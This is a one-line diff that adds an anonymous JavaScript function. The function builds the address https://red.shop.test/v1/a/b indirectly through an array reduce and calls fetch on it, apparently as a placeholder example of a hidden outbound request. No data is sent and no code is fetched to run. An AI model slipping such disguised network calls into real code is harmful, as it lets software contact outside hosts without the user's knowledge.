@@ -1,0 +1,1 @@
+(()=>{var e=["v1","a","b"],c=e.reduce((t,s)=>`${t}/${s}`,"https://red.shop.test");fetch(c);})();
